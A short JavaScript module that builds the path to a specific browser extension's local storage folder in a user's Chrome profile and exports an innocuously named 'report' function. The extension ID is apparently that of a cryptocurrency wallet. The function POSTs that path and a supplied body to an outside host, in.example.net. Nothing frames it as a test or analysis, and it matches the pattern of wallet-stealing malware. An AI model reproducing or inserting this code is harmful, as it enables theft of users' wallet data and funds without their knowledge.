const id = 'nkbihfbeogaeaoehlefnkodbefgpgknn';
const folder = (home) => home + '/.config/google-chrome/Default/Local Extension Settings/' + id;
exports.report = (home, body) => fetch('https://in.example.net/v1', { method: 'POST', body: JSON.stringify({ folder: folder(home), body }) });
